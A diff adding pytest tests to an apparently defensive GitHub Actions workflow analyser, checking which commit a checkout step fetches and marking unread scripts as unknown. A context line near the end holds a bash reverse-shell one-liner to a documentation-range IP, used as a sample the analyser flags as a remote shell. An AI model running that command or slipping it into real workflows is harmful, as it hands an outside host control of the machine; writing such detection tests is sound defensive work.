@@ -251,6 +251,31 @@ def test_scripts_of_other_shells(tmp_path: Path, job: str, run: str, wanted: lis
     assert any(isinstance(one, Unread) for one in found) is (Unread in wanted)
 
 
+@pytest.mark.parametrize(
+    ("ref", "wanted"),
+    [
+        ("main", "repository"),
+        ("${{ github.sha }}", "repository"),
+        ("${{ github.event.pull_request.head.ref }}", "pull request"),
+        ("refs/pull/${{ github.event.number }}/merge", "pull request"),
+        ("${{ env.HEAD }}", "pull request"),
+        ("${{ env.OTHER }}", Unread),
+        ("${{ steps.find.outputs.sha }}", Unread),
+        ("${{ inputs.ref || github.sha }}", Unread),
+        ("${{ github.. }}", Unread),
+    ],
+)
+def test_which_commit_is_checked_out(tmp_path: Path, ref: str, wanted: Any) -> None:
+    text = f"- uses: actions/checkout@v5\n  env: {{HEAD: '${{{{ github.head_ref }}}}'}}\n  with: {{ref: '{ref}'}}"
+    found = _step(tmp_path, text)["brings"]
+    assert isinstance(found, Unread) if wanted is Unread else found == wanted
+
+
+def test_what_a_script_that_was_not_read_does_is_open(tmp_path: Path) -> None:
+    found = _step(tmp_path, "- run: print(1)\n  shell: python")
+    assert all(isinstance(found[key], Unread) for key in ("brings", "pushes", "scans", "deploys"))
+
+
 def test_a_shell_that_is_handed_out(tmp_path: Path) -> None:
     found = _step(tmp_path, "- run: bash -i >& /dev/tcp/192.0.2.1/4444 0>&1")
     assert found["commands"][0]["remote_shell"] is True
